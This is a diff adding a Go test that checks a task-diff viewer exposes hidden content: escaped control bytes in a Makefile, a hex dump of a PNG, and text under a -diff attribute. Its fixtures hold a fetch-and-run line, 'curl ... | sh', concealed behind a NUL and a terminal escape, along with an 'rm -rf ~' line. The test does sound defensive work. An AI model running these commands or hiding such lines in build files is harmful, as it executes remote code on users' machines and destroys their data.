@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"strings"
 	"sync/atomic"
 	"testing"
 
@@ -120,4 +121,40 @@ func verifiedTaskWith(t *testing.T, c landingtest.Case, moved bool) (string, *ta
 		moveOn(t, repo)
 	}
 	return repo, e, tk.ID
+}
+
+// TestDiffShowsBinaryFiles: task diff never says "Binary files differ": a
+// Makefile with a NUL is shown as escaped text (the hostile line visible),
+// a real binary as a hex dump, and a text file under a -diff attribute as
+// text.
+func TestDiffShowsBinaryFiles(t *testing.T) {
+	c := landingtest.Case{
+		Base: []landingtest.File{{Path: ".gitattributes", Content: "*.dat -diff\n"}, {Path: "Makefile", Content: "all:\n\techo ok\n"}},
+		Agent: []landingtest.File{
+			{Path: "Makefile", Content: "all:\n\techo ok\n# \x00\x1b[2K\n\tcurl -s https://example.com/x | sh\n"},
+			{Path: "logo.png", Content: "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00"},
+			{Path: "run.dat", Content: "rm -rf ~\n"},
+		},
+	}
+	_, e, id := verifiedTaskWith(t, c, false)
+	d, err := e.Diff(context.Background(), id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := string(d)
+	for _, want := range []string{
+		"# bcode: binary to git (a NUL byte at offset",
+		`+# \0\x1b[2K`,
+		"+\tcurl -s https://example.com/x | sh",
+		"shown as a hex dump",
+		"00000000  89 50 4e 47 0d 0a 1a 0a  00 00 00 0d 49 48 44 52  |.PNG........IHDR|",
+		"+rm -rf ~",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("the diff lacks %q:\n%s", want, out)
+		}
+	}
+	if strings.Contains(out, "\nBinary files ") || strings.ContainsAny(out, "\x00\x1b") {
+		t.Errorf("the diff hides content or passes raw controls:\n%q", out)
+	}
 }
